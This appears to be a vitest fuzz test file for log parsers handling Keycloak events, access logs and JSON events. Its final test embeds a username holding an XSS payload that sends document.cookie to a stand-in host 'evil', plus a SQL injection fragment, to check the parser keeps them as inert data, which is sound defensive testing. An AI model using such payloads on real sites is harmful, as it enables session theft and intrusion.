import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { classifyUserEvent } from "@/lib/classify/classify";
import { detectFormat } from "@/lib/logs/detect-format";
import { parseAccessLogLine } from "@/lib/logs/parse-access-log-line";
import { parseEventJson, parseEventJsonDocument } from "@/lib/logs/parse-event-json";
import { parseKeycloakEventLine } from "@/lib/logs/parse-keycloak-event-line";
import { readLines } from "@/lib/logs/read-lines";
import { seededRandom as prng } from "@/testkit/seeded-random";

const SEEDS = [
  '2024-02-29 16:33:28,967 WARN  [org.keycloak.events] (executor-thread-7) type="LOGIN_ERROR", realmId="r", clientId="c", userId="null", ipAddress="1.2.3.4", error="invalid_user_credentials", reason="x \\"y\\"", username="a"',
  "08:12:20,561 WARN  [org.keycloak.events] (default task-3) type=LOGIN_ERROR, realmId=r, clientId=null, userId=null, ipAddress=1.2.3.4, error=expired_code, reason='a 'b', c'",
  '{"timestamp":"2024-01-01T00:00:00Z","loggerName":"org.keycloak.events","level":"WARN","message":"type=\\"LOGIN_ERROR\\", realmId=\\"r\\""}',
  '10.0.0.9 - - [03/Jun/2025:09:14:07 +0000] "GET /admin/realms/acme/users HTTP/1.1" 403 52 "-" "curl"',
  '{"time":1,"type":"LOGIN_ERROR","realmId":"r","details":{"reason":"x"}}',
  '{"RequestMethod":"GET","RequestPath":"/x","DownstreamStatus":403}',
];
const ALPHABET = ` ="',[]{}\\:|\n\t-_.abcXYZ019<>/?&%\u0000\u00e9\u65e5\ud83d\ude00`;

/** Real lines cut, spliced and sprinkled with delimiters: the shapes that break hand-written parsers. */
function mutate(random: () => number): string {
  const base = SEEDS[Math.floor(random() * SEEDS.length)] ?? "";
  let text = base.slice(0, Math.floor(random() * (base.length + 1)));
  const edits = Math.floor(random() * 6);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(random() * (text.length + 1));
    const char = ALPHABET[Math.floor(random() * ALPHABET.length)] ?? "";
    text =
      random() < 0.7 ? text.slice(0, at) + char + text.slice(at) : text.slice(0, at) + text.slice(at + 1);
  }
  return text;
}

describe("hostile input", () => {
  it("no parser throws on 5,000 mangled lines, and every event they yield can be classified", () => {
    const random = prng(20250603);
    const lines: string[] = [];
    for (let i = 0; i < 5000; i++) {
      const line = mutate(random);
      lines.push(line);
      const event = parseKeycloakEventLine(line, { defaultDate: "2024-01-01", timeZone: "Europe/Berlin" });
      if (event?.kind === "user") expect(() => classifyUserEvent(event.event, "log")).not.toThrow();
      expect(() => parseAccessLogLine(line)).not.toThrow();
      const json = parseEventJson(line);
      for (const result of json ?? []) {
        if (result.ok && result.kind === "user") classifyUserEvent(result.event, "api");
      }
    }
    expect(() => detectFormat(lines.slice(0, 500))).not.toThrow();
    expect(() => parseEventJsonDocument(lines.join("\n"))).not.toThrow();
  });

  it("survives random bytes through the whole read-and-parse path", async () => {
    const random = prng(7);
    const bytes = Buffer.alloc(256 * 1024);
    for (let i = 0; i < bytes.length; i++) bytes[i] = random() < 0.02 ? 0x0a : Math.floor(random() * 256);
    let lines = 0;
    let skipped = 0;
    for await (const line of readLines(Readable.from([bytes]))) {
      if (line.skipped !== undefined) {
        skipped++;
        continue;
      }
      lines++;
      parseKeycloakEventLine(line.text);
      parseAccessLogLine(line.text);
    }
    expect(lines + skipped).toBeGreaterThan(1000);
    expect(skipped).toBeGreaterThan(lines);
  });

  it("treats a username full of markup and quotes as inert data", () => {
    const username = `</script><script>fetch("//evil/"+document.cookie)</script>' OR 1=1 --`;
    const line = `type="LOGIN_ERROR", realmId="r", clientId="c", userId="null", ipAddress="1.2.3.4", error="user_not_found", username="${username.replaceAll('"', '\\"')}"`;
    const parsed = parseKeycloakEventLine(line);
    expect(parsed?.event.details?.username).toBe(username);
    expect(parsed?.kind === "user" && classifyUserEvent(parsed.event, "log")?.cause).toBe("user-credentials");
  });
});
